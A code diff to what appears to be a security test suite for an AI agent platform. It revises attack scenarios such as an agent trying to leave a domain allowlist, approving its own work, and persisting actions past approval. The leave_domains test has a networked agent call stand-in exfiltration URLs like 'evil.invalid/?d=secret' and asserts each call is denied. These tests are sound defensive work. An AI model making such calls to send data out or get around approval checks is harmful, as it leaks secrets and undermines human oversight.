@@ -131,6 +131,24 @@ def commit_work(world, node, job, clone, text="two\n"):
     return commit
 
 
+class Guarded:
+    """An installation with small limits, behind a proxy on loopback, whose tools may reach `target`. Several attacks share it."""
+
+    installation = target = None
+
+    @classmethod
+    def of(cls, world):
+        if cls.installation is None:
+            cls.target = Listener(lambda asked: (200, {}, {"secret": True}))
+            cls.installation = world.second_installation({
+                "egress.allow_private": f"127.0.0.1:{cls.target.port}",
+                "server.header_timeout_seconds": 2, "server.max_connections": 64, "server.trusted_proxies": "127.0.0.1",
+                "server.request_burst": 2000, "server.request_timeout_seconds": 5 if world.quick else 30,
+            })  # fmt: skip
+            cls.installation.set_up_models()
+        return cls.installation
+
+
 # M1 and M2: credentials that go astray.
 
 
@@ -283,17 +301,18 @@ def skip_plan_approval(world):
 
 @attack("M3", attacker="agent with network", tried="web tools against the domain policy")
 def leave_domains(world):
-    target = Listener(lambda asked: (200, {}, {"stolen": True}))
-    project = own_project(world, "domains")
-    set_policy(world, "security.web_browse.allowed_domains", ["docs.invalid"], project)
-    agent = world.agent_token(project, network=True)
-    urls = ["https://evil.invalid/?d=secret", "https://docs.invalid.evil.invalid/", "https://notdocs.invalid/", f"{target.url}/?d=secret"]
-    seen = {}
-    for url in urls:
-        seen[url] = [call_tool(world, agent, "web.fetch", {"url": url})[0], call_tool(world, agent, "api.call", {"method": "POST", "url": url})[0]]
+    other = Guarded.of(world)
+    project, target = own_project(other, "domains"), Guarded.target
+    agent = other.agent_token(project, network=True)
+    said, answer = call_tool(other, agent, "web.fetch", {"url": f"{target.url}/?control"})
+    assert said == "ok" and target.has("control"), f"control: without a policy it is reached: {said} {answer}"
+    set_policy(other, "security.web_browse.allowed_domains", ["docs.invalid"], project)
+    before, seen = len(target.requests), {}
+    for url in (f"{target.url}/?d=secret", "https://evil.invalid/?d=secret", "https://docs.invalid.evil.invalid/", "https://notdocs.invalid/"):
+        seen[url] = [call_tool(other, agent, "web.fetch", {"url": url})[0], call_tool(other, agent, "api.call", {"method": "POST", "url": url})[0]]
     assert all(words == ["failed policy_denied"] * 2 for words in seen.values()), seen
-    assert not target.requests, target.requests
-    return f"{2 * len(urls)} calls failed with policy_denied, 0 requests arrived"
+    assert len(target.requests) == before, target.requests[before:]
+    return f"{2 * len(seen)} calls failed with policy_denied, 0 requests arrived"
 
 
 @attack("M3", attacker="author of a task", tried="approval and merge of the own work under four eyes")
@@ -316,8 +335,7 @@ def approve_own_work(world):
         said, opened = call_tool(world, manager, "git.pull_request.open", {"task_id": task, "title": "Say two", "body": "It says two."})
         assert said == "ok", opened
         drive.step()
-    number = opened.get("pull_request_id") or opened["id"]
-    place = f"/v1/pull-requests/{number}"
+    place = f"/v1/pull-requests/{opened['pull_request']['id']}"
     for key in ("approvals.four_eyes", "delivery.require_approval"):
         set_policy(world, key, True, project)
     seen = {}
@@ -462,22 +480,6 @@ def read_other_commits(world):
 
 
 # M8: availability.
-
-
-class Guarded:
-    """An installation with small limits, behind a proxy on loopback, that attacks on availability share."""
-
-    installation = None
-
-    @classmethod
-    def of(cls, world):
-        if cls.installation is None:
-            cls.installation = world.second_installation({
-                "server.header_timeout_seconds": 2, "server.max_connections": 64, "server.trusted_proxies": "127.0.0.1",
-                "server.request_burst": 2000, "server.request_timeout_seconds": 5 if world.quick else 30,
-            })  # fmt: skip
-            cls.installation.set_up_models()
-        return cls.installation
 
 
 def open_file_count(pid):
@@ -928,9 +930,8 @@ def persist_by_manager(world):
         return {one["tool"]: one for one in found}
 
     until(lambda: set(wanted) <= set(waiting()), 30, 0.2, lambda: f"waits for a person: {list(waiting())}; before {before}, after {fresh.sql(state)}")
-    asked = fresh.sql("""SELECT DISTINCT tool FROM audit_records WHERE phase = 'decision' AND decision <> 'allow'
-        AND refusal = 'needs_approval'""")
-    assert {row["tool"] for row in asked} >= set(wanted), asked
+    asked = "SELECT DISTINCT tool FROM audit_records WHERE phase = 'decision' AND decision = 'needs_approval'"
+    until(lambda: {row["tool"] for row in fresh.sql(asked)} >= set(wanted), 10, 0.2, lambda: f"recorded: {fresh.sql(asked)}")
     assert fresh.sql(state) == before, (before, fresh.sql(state))
     # A person approves one of them: exactly that call is made, and what it left is marked.
     path = f"/v1/approvals/{waiting()['skills.create']['approval_id']}"
